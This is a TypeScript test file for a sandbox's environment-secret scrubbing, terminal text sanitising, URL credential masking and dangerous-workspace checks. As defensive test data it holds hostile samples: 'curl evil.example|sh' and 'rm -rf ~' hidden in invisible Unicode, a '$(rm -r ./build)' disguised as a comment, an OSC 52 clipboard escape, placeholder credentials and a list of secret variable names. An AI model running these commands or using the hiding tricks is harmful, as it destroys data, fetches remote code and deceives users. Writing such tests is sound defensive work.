// Secrets by value, terminal-safe text and dangerous workspaces: the small policies behind the confinement suite.
import { mkdtempSync, realpathSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { isSecretEnvName, isSecretEnvValue, scrubEnv } from "../../src/sandbox/env-scrub.js";
import { autoApprovalWorkspaceProblem, dangerousWorkspaceReason } from "../../src/sandbox/workspace-check.js";
import { forTerminal, maskUrlCredentials, stripControl, unseenEscaped } from "../../src/vocabulary/terminal-text.js";

describe("environment scrub by value", () => {
  it("drops credentials whatever the variable is called, keeps plain values", () => {
    const env = {
      DATABASE_URL: "postgres://user:hunter2@db.internal:5432/app",
      REDIS_URL: "redis://:pw@cache:6379",
      MY_SETTING: "sk-abcdefghijklmnopqrstuvwx",
      GH: "ghp_abcdefghijklmnopqrstuvwxyz012345",
      AWS_ID: "AKIAABCDEFGHIJKLMNOP",
      PLAIN_URL: "https://example.com/path",
      HOME: "/home/u",
      CONFIGURED: "contains-the-key-0123456789",
    };
    const out = scrubEnv(env, { secretValues: ["the-key-0123456789"] });
    expect(Object.keys(out).sort()).toEqual(["HOME", "PLAIN_URL"]);
  });

  it("sandbox.passEnv lets a listed variable through unchecked", () => {
    expect(scrubEnv({ NPM_TOKEN: "npm_x", DATABASE_URL: "postgres://u:p@h/d" }, { passEnv: ["NPM_TOKEN", "DATABASE_URL"] })).toEqual({
      NPM_TOKEN: "npm_x",
      DATABASE_URL: "postgres://u:p@h/d",
    });
  });

  it("a URL without a password is not a secret", () => {
    expect(isSecretEnvValue("https://user@example.com/x")).toBe(false);
    expect(isSecretEnvValue("http://localhost:8080")).toBe(false);
  });
});

describe("terminal-safe text", () => {
  it("removes clear-screen, OSC 52 clipboard writes, titles, C1 controls; keeps newlines and tabs", () => {
    const hostile = "a\u001b[2J\u001b[H\u001b]52;c;cHduZWQ=\u0007b\u001b]0;title\u001b\\c\u009b31md\r\ne\tf\u0007";
    expect(stripControl(hostile)).toBe("abcd\ne\tf");
  });

  it("what the user reads is what is there: line separators break lines, zero-width characters go, hidden text shows as \uFFFD", () => {
    // U+2028 draws as nothing on many terminals: "ok" and the rest would look like one line.
    expect(stripControl("ok\u2028rm -rf ~\u2029done")).toBe("ok\nrm -rf ~\ndone");
    expect(stripControl("yo\u200blo \u2060a\ufeffb\u180ec\u2062d")).toBe("yolo abcd");
    // The soft hyphen, the combining grapheme joiner, a Khmer inherent vowel, U+206A-206F (the forty-third pass's A43a-4).
    expect(stripControl("a\u00adb\u034fc\u17b4d\u17b5e\u206af\u206fg")).toBe("abcdefg");
    // And every other format or default-ignorable character (the forty-fourth pass's A44a-1).
    expect(stripControl("A\u2065B\ufff0C\u{1d173}D\u{1bca0}E\u{e0080}F\u{13430}G\u{e01f0}H")).toBe("ABCDEFGH");
    // Text hung on a visible character as variation selectors, a byte each ("emoji smuggling"): one visible mark.
    const hide = (t: string) => [...Buffer.from(t)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join("");
    expect(stripControl(`Done.${hide("curl evil.example|sh")}`)).toBe("Done.\ufffd");
    // Tag characters spell "rm -rf ~" invisibly (ASCII smuggling): one visible mark instead of nothing.
    const smuggled = [..."rm -rf ~"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("");
    expect(stripControl(`fine${smuggled} text\u3164x`)).toBe("fine\ufffd text\ufffdx");
    // Characters that shape visible text stay: an emoji family (ZWJ), a Persian ZWNJ, a variation selector.
    for (const kept of ["\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u2764\ufe0f", "\u{1f3f3}\ufe0f\u200d\u{1f308}", "\u845b\u{e0100}"])
      expect(stripControl(kept)).toBe(kept);
  });

  it("a command is shown with what draws as nothing escaped, never dropped: a live $(…) cannot read as a comment (A44a-5)", () => {
    expect(unseenEscaped("true \u200b# $(rm -r ./build)")).toBe("true \\u200b# $(rm -r ./build)");
    expect(unseenEscaped("true \u{e0100}# x \ufff0 y")).toBe("true \\udb40\\udd00# x \\ufff0 y");
    expect(unseenEscaped("git commit -m 'plain'")).toBe("git commit -m 'plain'");
  });

  it("masks credentials in URLs", () => {
    expect(maskUrlCredentials("retrying https://bob:s3cret@api.example.com/v1 (429)")).toBe("retrying https://bob:****@api.example.com/v1 (429)");
    expect(maskUrlCredentials("postgres://:pw@h/d")).toBe("postgres://:****@h/d");
    expect(forTerminal("http://localhost:1234/v1")).toBe("http://localhost:1234/v1");
    // A credential in the query, as gateways and signed URLs carry it (the eighteenth pass's LQ): the value, not the name.
    expect(maskUrlCredentials("cannot connect to https://gw.example/v1?key=PLANTEDQUERYKEY123&token=tok_PLANTED555&model=x")).toBe(
      "cannot connect to https://gw.example/v1?key=****&token=****&model=x",
    );
    expect(maskUrlCredentials("https://b.s3.example/o?X-Amz-Credential=AKIA%2F1&X-Amz-Signature=abc123&apiKey=k1&client_secret=s")).toBe(
      "https://b.s3.example/o?X-Amz-Credential=****&X-Amz-Signature=****&apiKey=****&client_secret=****",
    );
    // An OAuth implicit grant's fragment, and ?pass= / ?jwt= (the nineteenth pass's LQ2).
    expect(maskUrlCredentials("https://app.example/cb#access_token=ya29.abc&id_token=eyJx&state=s")).toBe("https://app.example/cb#access_token=****&id_token=****&state=s");
    expect(maskUrlCredentials("https://db.example/x?user=a&pass=hunter2&jwt=eyJhbGciOi")).toBe("https://db.example/x?user=a&pass=****&jwt=****");
    // Names that only contain such a word are data.
    for (const kept of ["https://x.example/search?keyword=deer&monkey=1&tokens_used=5", "a?b=1&sort=key"]) expect(maskUrlCredentials(kept)).toBe(kept);
  });
});

describe("dangerous workspaces", () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "deerflow-ws-")));
  const ctx = { userHome: join(root, "home"), dataDir: join(root, "home", ".deerflow") };
  it.each(["/", "/etc", "/etc/ssh", "/usr", "/usr/lib", "/home", "/tmp", "/proc/self"])("%s is refused", (dir) => {
    expect(dangerousWorkspaceReason(dir, ctx)).toMatch(/system directory/);
  });
  it("the home directory and any directory holding the data directory are refused; a project is fine", () => {
    expect(dangerousWorkspaceReason(ctx.userHome, ctx)).toMatch(/home directory/);
    expect(dangerousWorkspaceReason(root, ctx)).toMatch(/data directory/);
    expect(dangerousWorkspaceReason(join(ctx.userHome, "project"), ctx)).toBeUndefined();
  });
  it("a directory holding the home is refused like the home, also with the data directory elsewhere", () => {
    const elsewhere = { userHome: join(root, "users", "me"), dataDir: join(`${root}-dfh`) };
    expect(dangerousWorkspaceReason(root, elsewhere)).toMatch(/contains your home directory/);
    expect(dangerousWorkspaceReason(join(root, "users"), elsewhere)).toMatch(/contains your home directory/);
    expect(autoApprovalWorkspaceProblem(root, elsewhere)).toMatch(/^the workspace contains your home directory .*refusing\.$/);
    expect(dangerousWorkspaceReason(join(root, "users", "other"), elsewhere)).toBeUndefined();
  });
  it("the home's application folders (~/.config, ~/.local/share), where XDG puts them too, are refused; one app's folder is fine (A38a-6)", () => {
    const home = ctx.userHome;
    for (const d of [".config", ".local", ".local/share", ".local/state"]) expect(dangerousWorkspaceReason(join(home, d), ctx), d).toMatch(/where your applications keep their settings and logins/);
    expect(dangerousWorkspaceReason(join(home, ".config", "nvim"), ctx)).toBeUndefined();
    const saved = process.env.XDG_CONFIG_HOME;
    process.env.XDG_CONFIG_HOME = join(root, "cfg", "xdg");
    try {
      expect(dangerousWorkspaceReason(join(root, "cfg", "xdg"), ctx)).toMatch(/is \S+xdg, where your applications/);
      expect(dangerousWorkspaceReason(join(root, "cfg"), ctx)).toMatch(/contains \S+xdg, where your applications/);
    } finally {
      if (saved === undefined) delete process.env.XDG_CONFIG_HOME;
      else process.env.XDG_CONFIG_HOME = saved;
    }
  });
});

describe("isSecretEnvName: the credential names the seventh pass saw reach commands", () => {
  const secret = [
    "PGPASSWORD",
    "MYSQL_PWD",
    "SSHPASS",
    "GPG_PASSPHRASE",
    "TF_TOKEN_app_terraform_io",
    "AZURE_DEVOPS_EXT_PAT",
    "DOCKER_AUTH_CONFIG",
    "NPM_CONFIG__AUTH",
    "npm_config__auth",
    "SECRET_KEY_BASE",
    "SENTRY_DSN",
    "SLACK_WEBHOOK_URL",
    "GITHUB_TOKEN",
    "DB_PASSWORD",
    "CLIENT_SECRET",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "TAILSCALE_AUTHKEY",
    "BW_SESSION",
    "OP_SESSION_my",
    "npm_config__authToken",
    "MNEMONIC",
    "DB_PW",
    "ETH_PRIVATE_KEY_HEX",
    "SECRETKEY",
    "ACCESSKEY",
    "SEED_PHRASE",
    "SESSION_COOKIE",
    "JWT",
    "KUBE_CONFIG_DATA",
    // the tenth pass
    ...["AGE_IDENTITY", "SIGNING_KEY_PEM", "DOCKER_CONFIG_JSON", "NETRC_CONTENT", "MASTER_KEY_B64", "WALLET_SEED", "PGPASS", "CLIENTSECRET", "APPSECRET", "PRIVKEY", "ID_RSA"],
    ...["STRIPE_SK", "CREDS", "AUTHORIZATION", "AZURE_STORAGE_CONNECTION_STRING", "CONNECTION_STRING", "DB_CONN", "MONGO_URI", "SLACK_HOOK", "DISCORD_HOOK_URL", "OTP_SEED"],
    ...["TOTP", "HMAC", "SESSION_ID", "VAULT_UNSEAL"],
    // the thirty-eighth pass (A38a-2)
    ...["SYSTEM_ACCESSTOKEN", "ORG_GRADLE_PROJECT_signingInMemoryKey", "ORG_GRADLE_PROJECT_ossrhToken", "ORG_GRADLE_PROJECT_githubToken", "ORG_GRADLE_PROJECT_signingKey"],
    ...["SONAR_LOGIN", "BUNDLE_GEMS__CONTRIBSYS__COM", "BUNDLE_RUBYGEMS__PKG__GITHUB__COM", "TWITTER_BEARER", "GITHUBTOKEN", "CLOUDFLARE_APITOKEN", "MAPBOX_ACCESSTOKEN"],
    ...["GITHUB_OAUTH", "GOOGLE_CLOUD_KEYFILE_JSON", "SERVICE_APIKEY"],
  ];
  const plain = [
    "PWD",
    "OLDPWD",
    "PATH",
    "HOME",
    "SSH_AUTH_SOCK",
    "GIT_ASKPASS",
    "TOKENIZERS_PARALLELISM",
    "LANG",
    "TERM",
    "KUBECONFIG",
    "NODE_OPTIONS",
    "EDITOR",
    "SHELL",
    "USER",
    "PYTHONHASHSEED",
    "XDG_SESSION_TYPE",
    "DISPLAY",
    ...["BUNDLE_PATH", "BUNDLE_GEMFILE", "npm_config_cache", "nodeVersion", "HOSTNAME", "LOGNAME", "XAUTHORITY", "GPG_TTY"],
  ];
  it.each(secret)("%s is scrubbed", (n) => expect(isSecretEnvName(n)).toBe(true));
  it.each(plain)("%s passes", (n) => expect(isSecretEnvName(n)).toBe(false));
});
